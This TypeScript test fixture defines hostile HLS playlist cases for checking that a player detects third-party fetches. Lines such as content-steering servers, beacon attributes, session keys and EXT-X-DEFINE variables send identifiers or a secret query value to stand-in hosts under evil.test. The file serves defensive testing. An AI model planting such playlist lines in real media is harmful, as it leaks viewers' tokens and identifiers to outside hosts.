import { hls, type HostileCase } from '../case.js';
import { master, media } from '../manifests/hls.js';

const list = '/case/media.m3u8';

/** Lines of a multivariant playlist, before a variant that is ours. */
const inMaster = (name: string, row: string, line: string, finds: string[], more: Partial<HostileCase> = {}): HostileCase => ({
  name,
  row,
  src: '/case/master.m3u8',
  files: { '/case/master.m3u8': hls(master(line)) },
  playsTo: 1.5,
  finds,
  ...more
});

/** Lines of a media playlist, before its second segment. */
const inMedia = (name: string, row: string, line: string, finds: string[], more: Partial<HostileCase> = {}): HostileCase => ({
  name,
  row,
  src: list,
  files: { [list]: hls(media({ between: line })) },
  playsTo: 2.5,
  finds,
  ...more
});

const dateRange = '#EXT-X-DATERANGE:ID="ad1",CLASS="com.apple.hls.interstitial",START-DATE="2026-01-01T00:00:01.000Z",DURATION=4';
const asset = JSON.stringify({ ASSETS: [{ URI: 'https://ad.evil.test/media/cmaf/master.m3u8', DURATION: 4 }] });
const clones = JSON.stringify({
  VERSION: 1,
  TTL: 1,
  'RELOAD-URI': 'https://reload.evil.test/s.json',
  'PATHWAY-PRIORITY': ['clone', '.'],
  'PATHWAY-CLONES': [{ 'BASE-ID': '.', ID: 'clone', 'URI-REPLACEMENT': { HOST: 'clone.evil.test', PARAMS: { u: '42' } } }]
});

export const hlsTracking: readonly HostileCase[] = [
  inMaster(
    'content steering from another host',
    'hls-steering',
    '#EXT-X-CONTENT-STEERING:SERVER-URI="https://steer.evil.test/s.json",PATHWAY-ID="."',
    ['hls-steering']
  ),
  inMaster(
    'content steering from our host, with clones on other hosts',
    'hls-steering',
    '#EXT-X-CONTENT-STEERING:SERVER-URI="/case/steer.json",PATHWAY-ID="."',
    ['hls-steering'],
    {
      files: {
        '/case/master.m3u8': hls(master('#EXT-X-CONTENT-STEERING:SERVER-URI="/case/steer.json",PATHWAY-ID="."')),
        '/case/steer.json': { body: clones, type: 'application/json' }
      }
    }
  ),
  inMedia(
    'an interstitial on another host',
    'hls-interstitial-uri',
    `${dateRange},X-ASSET-URI="https://ad.evil.test/media/cmaf/master.m3u8"`,
    ['hls-interstitial']
  ),
  inMedia(
    'a list of interstitials on another host',
    'hls-interstitial-list',
    `${dateRange},X-ASSET-LIST="https://adlist.evil.test/l.json"`,
    ['hls-interstitial']
  ),
  inMedia(
    'a list of interstitials on our host that names another',
    'hls-interstitial-list',
    `${dateRange},X-ASSET-LIST="/case/l.json"`,
    ['hls-interstitial'],
    {
      files: {
        [list]: hls(media({ between: `${dateRange},X-ASSET-LIST="/case/l.json"` })),
        '/case/l.json': { body: asset, type: 'application/json' }
      }
    }
  ),
  inMedia(
    'a date range with a beacon URL in a custom attribute',
    'hls-not-fetched',
    '#EXT-X-DATERANGE:ID="b",START-DATE="2026-01-01T00:00:01.000Z",X-COM-EXAMPLE-BEACON="https://beacon.evil.test/b?u=42"',
    ['hls-date-range-url']
  ),
  inMaster(
    'session data on another host',
    'hls-not-fetched',
    '#EXT-X-SESSION-DATA:DATA-ID="com.example.title",URI="https://data.evil.test/title.json"',
    ['hls-session-data']
  ),
  inMaster('a session key on another host', 'hls-not-fetched', '#EXT-X-SESSION-KEY:METHOD=AES-128,URI="https://key.evil.test/k?u=42"', [
    'hls-key'
  ]),
  inMaster(
    'an I-frame playlist on another host',
    'hls-not-fetched',
    '#EXT-X-I-FRAME-STREAM-INF:BANDWIDTH=10000,CODECS="avc1.4d4015",RESOLUTION=426x240,URI="https://iframe.evil.test/media/cmaf/video-240.m3u8"',
    ['hls-trick-play']
  ),
  inMaster(
    'an image playlist on another host',
    'hls-not-fetched',
    '#EXT-X-IMAGE-STREAM-INF:BANDWIDTH=10000,RESOLUTION=160x90,CODECS="jpeg",URI="https://image.evil.test/i.m3u8"',
    ['hls-trick-play']
  ),
  inMedia('a preload hint on another host', 'hls-not-fetched', '#EXT-X-PRELOAD-HINT:TYPE=PART,URI="https://hint.evil.test/p.m4s"', [
    'hls-hint'
  ]),
  inMedia(
    'a rendition report on another host',
    'hls-not-fetched',
    '#EXT-X-RENDITION-REPORT:URI="https://report.evil.test/r.m3u8",LAST-MSN=1',
    ['hls-hint']
  ),
  {
    name: 'a partial segment on another host, at the end of ours',
    row: 'hls-not-fetched',
    src: list,
    files: { [list]: hls(media({ tail: '#EXT-X-PART-INF:PART-TARGET=1\n#EXT-X-PART:DURATION=1,URI="https://part.evil.test/p.m4s"' })) },
    playsTo: 1,
    finds: ['hls-hint']
  },
  {
    name: 'a variable filled from the query of the URL, sent to another host',
    row: 'hls-define-query',
    src: '/case/master.m3u8?t=SECRET',
    files: { '/case/master.m3u8': hls(master('#EXT-X-DEFINE:QUERYPARAM="t"', 'https://var.evil.test/media/cmaf/video-240.m3u8?t={$t}')) },
    finds: ['hls-define', 'hls-variant']
  },
  {
    name: 'a variable filled from the query of the URL, put into the host name',
    row: 'hls-define-query',
    src: '/case/master.m3u8?t=cdn.evil.test',
    files: { '/case/master.m3u8': hls(master('#EXT-X-DEFINE:QUERYPARAM="t"', 'https://{$t}/media/cmaf/video-240.m3u8')) },
    finds: ['hls-define']
  },
  {
    name: 'a variable imported from the multivariant playlist by the media playlist',
    row: 'hls-define-query',
    src: '/case/master.m3u8',
    files: {
      '/case/master.m3u8': hls(master('#EXT-X-DEFINE:NAME="host",VALUE="cdn.evil.test"', 'media.m3u8')),
      '/case/media.m3u8': hls(media({ head: '#EXT-X-DEFINE:IMPORT="host"', replaced: { 1: 'https://{$host}/media/cmaf/video-240/1.m4s' } }))
    },
    blocked: ['segment'],
    finds: ['hls-define']
  }
];
